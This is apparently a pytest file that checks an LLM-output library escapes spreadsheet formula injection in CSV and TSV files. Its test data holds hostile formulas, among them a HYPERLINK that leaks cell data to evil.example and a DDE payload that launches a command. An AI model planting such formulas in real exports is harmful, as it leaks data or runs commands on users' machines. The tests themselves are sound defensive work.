"""Answers that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from llmflow.errors import ConfigurationError
from llmflow.rows import open_output

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-",
    "-5 apples",
    "- a list\n- of points",
]
HARMLESS = ["-5", "+4.5e-3", "-.5", "a=b", "'=1", "", "1-2", "\u2212 5"]


def read(path: Path) -> list[dict[str, str]]:
    delimiter = "\t" if path.suffix == ".tsv" else ","
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file, delimiter=delimiter))


@pytest.mark.parametrize("name", ["a.csv", "a.tsv"])
@pytest.mark.parametrize("late", [False, True], ids=["", "a column that comes later"])
def test_cells_that_would_be_run_begin_with_an_apostrophe(
    tmp_path: Path, name: str, late: bool
) -> None:
    path = tmp_path / name
    with open_output(path, escape_formulas=True) as out:
        for text in FORMULAS + HARMLESS:
            out.write({"text": text, "response": text})
        if late:
            out.write({"text": "x", "response": "x", "=late": "=1"})
    rows = read(path)
    texts = [f"'{text}" for text in FORMULAS] + HARMLESS
    expected = [{"text": text, "response": text} for text in texts]
    if late:
        expected = [{**row, "'=late": ""} for row in expected]
        expected.append({"text": "x", "response": "x", "'=late": "'=1"})
    assert rows == expected


def test_values_of_other_kinds_and_names_of_columns(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    row: dict[str, Any] = {"@name": -5, "x": -0.5, "list": ["=1"], "none": None}
    with open_output(path, escape_formulas=True) as out:
        out.write(row)
    assert read(path) == [{"'@name": "-5", "x": "-0.5", "list": '["=1"]', "none": ""}]


def test_a_header_without_rows_is_escaped(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    open_output(path, fields=["=a", "b"], escape_formulas=True).commit()
    assert path.read_text() == "'=a,b\n"


def test_nothing_is_changed_unless_asked_for(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    with open_output(path) as out:
        out.write({"text": "=1+1"})
    assert read(path) == [{"text": "=1+1"}]


@pytest.mark.parametrize("name", ["a.jsonl", "a", "a.parquet", "-", "/dev/null", "/dev/stdout"])
def test_other_formats_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigurationError, match=r"formulas are escaped in \.csv and \.tsv only"):
        open_output(name, escape_formulas=True)
    assert list(tmp_path.iterdir()) == []
